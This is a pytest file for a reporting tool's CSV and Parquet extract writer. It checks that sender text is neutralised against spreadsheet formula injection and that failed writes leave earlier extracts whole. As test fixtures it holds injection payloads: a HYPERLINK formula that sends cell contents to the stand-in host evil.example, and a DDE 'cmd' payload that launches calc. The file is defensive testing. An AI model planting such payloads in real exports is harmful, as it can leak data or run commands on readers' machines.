"""The CSV and Parquet extracts: safe to open in a spreadsheet, never half written (issue 22).

Attacks: senders' text in the extracts started with `=HYPERLINK(...)` or `+cmd|...` and ran as a
formula when a report consumer opened the CSV; a report killed while writing left a 0-byte
extract in place of the previous one. The extract writer runs here on a real DuckDB table shaped
like the published dq_quarantine mart, whose raw_record column is exactly what a sender wrote.
"""

from __future__ import annotations

import csv

import duckdb
import pyarrow.parquet as pq
import pytest

DAY = "2026-01-05"
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "plain text", "a=b", "", None]


@pytest.fixture()
def published(tmp_path):
    from midoffice.config import settings_from

    settings = settings_from(tmp_path / "landing", tmp_path / "home")
    con = duckdb.connect()
    con.execute("""CREATE TABLE dq_quarantine (business_date DATE, feed VARCHAR, file VARCHAR, line BIGINT,
                   rule VARCHAR, detail VARCHAR, raw_record VARCHAR, run_id VARCHAR, loaded_at TIMESTAMP)""")
    for i, text in enumerate(HOSTILE):
        con.execute("INSERT INTO dq_quarantine VALUES (?, 'trades', 'trades.csv', ?, 'venue:values', 'x', ?, 'r', "
                    "TIMESTAMP '2026-01-05 06:00:00')", [DAY, -i if i == 3 else i + 2, text])
    yield settings, con
    con.close()


def write(settings, con):
    from midoffice.models import load_models
    from midoffice.report.extracts import write_extracts

    columns = {"dq_quarantine": set(next(m for m in load_models() if m.name == "dq_quarantine").columns)}
    return write_extracts(con, settings, DAY, columns)


def test_sender_text_that_a_spreadsheet_would_run_is_neutralised_in_the_csv_only(published):
    settings, con = published
    write(settings, con)
    folder = settings.reports / DAY / "extracts"
    with open(folder / "dq_quarantine.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    shown = {r["line"]: r["raw_record"] for r in rows}
    by_line = {(-i if i == 3 else i + 2): text for i, text in enumerate(HOSTILE)}
    for line, text in by_line.items():
        cell = shown[str(line)]
        if text and text[0] in "=+-@\t\r":
            assert cell == "'" + text, (text, cell)
        else:
            assert cell == (text or ""), (text, cell)
    assert shown["-3"] == "'@SUM(1+1)" and "-3" in shown  # a negative number in a numeric column stays a number
    parquet = pq.read_table(folder / "dq_quarantine.parquet").to_pylist()
    assert sorted((r["raw_record"] or "") for r in parquet) == sorted((t or "") for t in HOSTILE)  # as published


def test_a_report_that_fails_while_writing_leaves_the_previous_extract_whole(published):
    settings, con = published
    write(settings, con)
    folder = settings.reports / DAY / "extracts"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    con.execute("INSERT INTO dq_quarantine VALUES (?, 'trades', 'trades.csv', 99, 'r', 'x', 'new', 'r', NULL)", [DAY])
    (folder / ".tmp-dq_quarantine.csv").mkdir()  # the new CSV cannot be written: the write fails half way
    with pytest.raises(duckdb.Error):
        write(settings, con)
    after = {p.name: p.read_bytes() for p in folder.iterdir() if not p.name.startswith(".tmp-")}
    assert after["dq_quarantine.csv"] == before["dq_quarantine.csv"] and after["dq_quarantine.csv"]
    (folder / ".tmp-dq_quarantine.csv").rmdir()
    write(settings, con)
    assert b"new" in (folder / "dq_quarantine.csv").read_bytes()
    assert not [p for p in folder.iterdir() if p.name.startswith(".tmp-")]
